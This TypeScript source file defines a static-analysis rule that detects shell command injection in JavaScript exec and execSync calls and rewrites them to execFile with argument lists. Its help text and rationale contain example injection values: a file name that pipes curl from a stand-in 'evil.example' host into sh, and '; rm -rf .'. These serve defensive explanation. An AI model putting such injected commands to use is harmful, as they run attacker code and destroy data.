import type { Rationale } from '../draft';
import { nameOf } from '../flow/calls';
import { javascriptCall } from '../flow/javascript';
import { anySource, ordinaryJudge, stripsMarks } from '../flow/judge';
import type { Question } from '../flow/question';
import type { Call } from '../flow/value';
import type { Node } from '../syntax';
import { callNamed, comesFrom, stepsOf, worstOf } from './flowRule';
import { whyRunner } from './commandRunners';
import { importName, moduleOf, originOf, quoteOf } from './imports';
import type { ParsedFile } from './parsedFile';
import { argumentsOf, isCallback } from './parsedFile';
import type { HolePiece } from './pieces';
import { constantOf, hole, piecesOf, unitsOf, valueText } from './pieces';
import type { Detection, RecipeResult, Rule } from './rule';
import { listed, refuse, snippet } from './rule';

/** Commands that a shell interprets and that are put together from values. */
export const shellCommand: Rule = {
  id: 'shell-command',
  title: 'A shell runs a command that is not fixed',
  cwe: ['CWE-78', 'CWE-77', 'CWE-88'],
  languages: ['javascript'],
  severity: 'critical',
  precision: 'high',
  help: {
    why: 'A shell does not run one program: it obeys every ; | & $() and quote in its text.',
    attack:
      'A file name such as `a.png; curl evil.example | sh` ends the command that was meant and starts another.',
    fix: 'Run the program without a shell: execFile() or spawn() with the arguments as a list.',
    sources: [
      'https://cwe.mitre.org/data/definitions/78.html',
      'https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback',
    ],
  },
  recipe: { does: 'Runs the program itself, with the values as arguments', review: 'read' },
  topic: /child.?process|command.?(inj|exec)|\bshell|\bos.?command|\bexec(sync)?\b/i,
  words: ['child_process', 'exec', 'execSync', 'execAsync'],
  detect(file) {
    const imported = file.imports.filter(
      (one) => one.imported && moduleOf(one.imported.specifier) === 'child_process',
    );
    const declared = file.find('promisify', 'exec', 'execSync').flatMap((one) => declaredAs(one));
    const aliases = [...imported.map(({ name }) => name), ...declared];
    return file
      .find(...new Set(['exec', 'execSync', 'execAsync', ...aliases]))
      .filter(file.concerns)
      .flatMap((name) => detectAt(name, file) ?? []);
  },
};

/** Anything that is not fixed can hold what a shell obeys. */
export const question: Question = {
  kinds: anySource,
  cleans: (call, file) =>
    stripsMarks(call, file) ||
    escapesQuotes(call) ||
    /^(quote|shellescape|shellEscape|escapeShell\w*|shellQuote|escape|escapeArg|encodeURIComponent)$/.test(
      nameOf(call),
    ) ||
    /shell.?(escape|quote)|sanit/i.test(nameOf(call)),
  judge: ordinaryJudge,
};

/** `x.replace(/'/g, "'\\''")`: what ends a quoted text of a shell gets a mark before it. */
function escapesQuotes({ method, args }: Call): boolean {
  const [pattern, by] = args;
  if (!/^replace(All)?$/.test(method ?? '') || pattern?.type !== 'regex') return false;
  const source = pattern.childForFieldName('pattern')?.text ?? '';
  const isGlobal = pattern.childForFieldName('flags')?.text.includes('g') === true;
  return isGlobal && source.includes("'") && by?.text.includes('\\\\') === true;
}

/** The name that `const run = util.promisify(…)` and `const run = childProcess.exec` declare. */
function declaredAs(name: Node): readonly string[] {
  let at: Node | null = name.parent;
  while (at && /^(member_expression|arguments|call_expression)$/.test(at.type)) at = at.parent;
  const declared = at?.type === 'variable_declarator' ? at.childForFieldName('name') : null;
  return declared?.type === 'identifier' && declared.id !== name.id ? [declared.text] : [];
}

/** The `exec` of `promisify(exec)`. */
function wrapped(value: Node | undefined, file: ParsedFile): Node | undefined {
  const call = value && javascriptCall(value);
  if (!call || call.isNew) return undefined;
  const isPromised =
    /(^|\.)promisify$/.test(call.callee.text) ||
    /promisify|^pify$/.test(originOf(call.callee, file)?.module ?? '');
  return isPromised ? call.args[0] : undefined;
}

function detectAt(name: Node, file: ParsedFile): Detection | undefined {
  const site = callNamed(name);
  if (!site || site.call.isNew) return undefined;
  const { callee, args } = site.call;
  const [command] = args;
  const promised =
    callee.type === 'identifier' ? wrapped(file.resolve(callee)?.value, file) : undefined;
  const origin = originOf(promised ?? callee, file);
  if (!command || !origin) return undefined;
  const isOwn = origin.module !== 'child_process';
  const called = isOwn ? name.text : origin.name;
  if (isOwn ? !runsCommands(origin, command, file) : !/^exec(Sync)?$/.test(called))
    return undefined;
  if (constantOf(command, file) !== undefined) return undefined;
  const pieces = piecesOf(command, file);
  if (pieces?.every(({ kind }) => kind !== 'hole')) return undefined;
  const source = worstOf(file.flow.origins(command, question));
  if (!source) return undefined;
  const { guard } = source;
  return {
    ruleId: shellCommand.id,
    start: site.node.startIndex,
    end: site.node.endIndex,
    message: `${called}() hands ${snippet(file.code(command))} to a shell, and it can come from ${comesFrom(source, file)}.`,
    flow: stepsOf(source, file),
    ...(guard && { guard: { start: guard.startIndex, end: guard.endIndex } }),
    recipe: () => {
      if (promised) {
        return refuse('The call goes through promisify, which has to be changed with it.');
      }
      if (isOwn) return refuse(`${called}() is a function of another file.`);
      return withoutShell({ call: site.node, callee, command, name: called }, file);
    },
  };
}

/** Whether a function of another file is named for running commands, and is given one. */
function runsCommands(
  { module, name }: { readonly module: string; readonly name: string },
  command: Node,
  file: ParsedFile,
): boolean {
  const isNamed = /^exec(Sync|Async)?$/.test(name) || /\/exec(ute)?(-\w+)?(\.js)?$/.test(module);
  if (!isNamed || !module.startsWith('.')) return false;
  const [first] = piecesOf(command, file) ?? [];
  return first?.kind === 'text' && /^\s*[\w./-]+\s/.test(file.text.slice(first.start, first.end));
}

interface ShellCall {
  readonly call: Node;
  readonly callee: Node;
  readonly command: Node;
  readonly name: string;
}

function withoutShell(shellCall: ShellCall, file: ParsedFile): RecipeResult {
  const { callee, command, name } = shellCall;
  const words = wordsOf(command, file);
  if (!words.ok) return words;
  const unfit = unfitArguments(shellCall, file);
  if (unfit !== undefined) return refuse(unfit);
  const replacement = name === 'exec' ? 'execFile' : 'execFileSync';
  const instead = originOf(callee, file)?.binding;
  const property = callee.childForFieldName('property');
  const imported = property
    ? { ok: true as const, expression: replacement, edits: [] }
    : importName(file, 'child_process', replacement, callee, instead);
  if (!imported.ok) return imported;
  const target = property ?? callee;
  const quote = quoteOf(file);
  const [program = '', ...rest] = words.words.map((word) =>
    typeof word === 'string' ? quote + word + quote : valueText(word, file),
  );
  const text = `${program}, [${rest.join(', ')}]`;
  const edits = [
    ...imported.edits,
    { start: target.startIndex, end: target.endIndex, text: imported.expression },
    { start: command.startIndex, end: command.endIndex, text },
  ];
  return { ok: true, edits, rationale: rationale(words.words, shellCall, file) };
}

type Words =
  | { readonly ok: true; readonly words: readonly (string | HolePiece)[] }
  | { readonly ok: false; readonly why: string };

const shellBuiltins = new Set(
  '. : alias cd command eval exec exit export read set source test trap type ulimit umask unset wait'.split(
    ' ',
  ),
);

/** The command as a program and its arguments, in the strict shape that needs no shell. */
function wordsOf(command: Node, file: ParsedFile): Words {
  const pieces = piecesOf(command, file);
  const units = pieces && unitsOf(pieces, file);
  if (!units) return refuse('The command is not written as one template or concatenation here.');
  if (command.descendantsOfType('comment').length > 0)
    return refuse('The command holds a comment.');
  const text = units.map(({ character }) => character).join('');
  const special = /[^\w./:=,@+ -]/.exec(text.replaceAll(hole, ''))?.[0];
  if (special !== undefined) {
    const shown = /\s/.test(special) ? 'a line break or tab' : special;
    return refuse(`The command holds ${shown}, which means something to a shell only.`);
  }
  const holes = units.flatMap(({ piece }) => (piece.kind === 'hole' ? [piece] : []));
  const words: (string | HolePiece)[] = [];
  for (const word of text.split(' ').filter((one) => one !== '')) {
    const next = word.includes(hole) ? holes.shift() : undefined;
    if (next && word !== hole) {
      const code = snippet(file.code(next.expression));
      return refuse(`${code} is only part of a word of the command, not an argument of its own.`);
    }
    words.push(next ?? word);
  }
  const why = unfitProgram(words[0]);
  return why === undefined ? { ok: true, words } : refuse(why);
}

function unfitProgram(program: string | HolePiece | undefined): string | undefined {
  if (typeof program !== 'string') return 'The program itself is not fixed.';
  if (shellBuiltins.has(program)) return `${program} is a command of the shell, not a program.`;
  if (program.includes('=')) return 'The command sets an environment variable first.';
  if (/\.(cmd|bat)$/i.test(program)) return 'Windows runs .cmd and .bat files in a shell only.';
  return whyRunner(program);
}

/** Why what follows the command cannot be handed on as it is, or undefined when it can. */
function unfitArguments({ call, name }: ShellCall, file: ParsedFile): string | undefined {
  const rest = argumentsOf(call).slice(1);
  const last = rest.at(-1);
  const callback = name === 'exec' && last && isCallback(last, file);
  const [options, ...more] = callback ? rest.slice(0, -1) : rest;
  if (more.length > 0) return `${name}() has more arguments here than it takes.`;
  if (!options) return undefined;
  if (options.type !== 'object')
    return 'The options are not written out here, so they may name a shell.';
  for (const property of options.namedChildren) {
    const key = property.childForFieldName('key')?.text ?? property.text;
    if (
      property.type === 'spread_element' ||
      property.childForFieldName('key')?.type === 'computed_property_name'
    ) {
      return 'The options are not all written out here, so they may name a shell.';
    }
    if (/^['"]?shell['"]?$/.test(key)) return 'The options ask for a shell.';
  }
  return undefined;
}

function rationale(
  words: readonly (string | HolePiece)[],
  { name, command }: ShellCall,
  file: ParsedFile,
): Rationale {
  const program = typeof words[0] === 'string' ? words[0] : '';
  const values = words.flatMap((word) =>
    typeof word === 'string' ? [] : [snippet(file.code(word.expression))],
  );
  const are = values.length > 1 ? 'are' : 'is';
  const windows = /^(npm|npx|yarn|pnpm)$/.test(program)
    ? [`On Windows ${program} is a .cmd file, which ${name}File cannot start.`]
    : [];
  return {
    whyVulnerable: `${name}() gives ${snippet(file.code(command))} to a shell, and ${listed(values)} ${are} part of that text: a value such as "; rm -rf ." runs a command of its own.`,
    whyFixed: `The program ${program} now starts without a shell, and ${listed(values)} ${are} handed over as ${values.length > 1 ? 'arguments of their own' : 'an argument of its own'}: nothing in them is read as a command.`,
    mayBreak: [
      'A value with spaces, quotes or a * was split or expanded by the shell until now; from now on it is one argument as it stands.',
      'A value that is not a string, such as a number or an array, makes the call throw instead of being turned into text.',
      ...windows,
    ],
    alternatives: [
      {
        option: 'Check the values against a list of allowed ones',
        whyNot: 'Which values are right is not known here. It is worth adding.',
      },
      {
        option: 'Quote the values for the shell',
        whyNot: 'Quoting differs between shells and is easily got wrong.',
      },
    ],
    assumptions: [
      `${program} is a program on the PATH, not an alias or a function of the shell.`,
      `${program} still reads a value that begins with "-" as an option: check for that, or put "--" before it where ${program} understands it.`,
    ],
  };
}
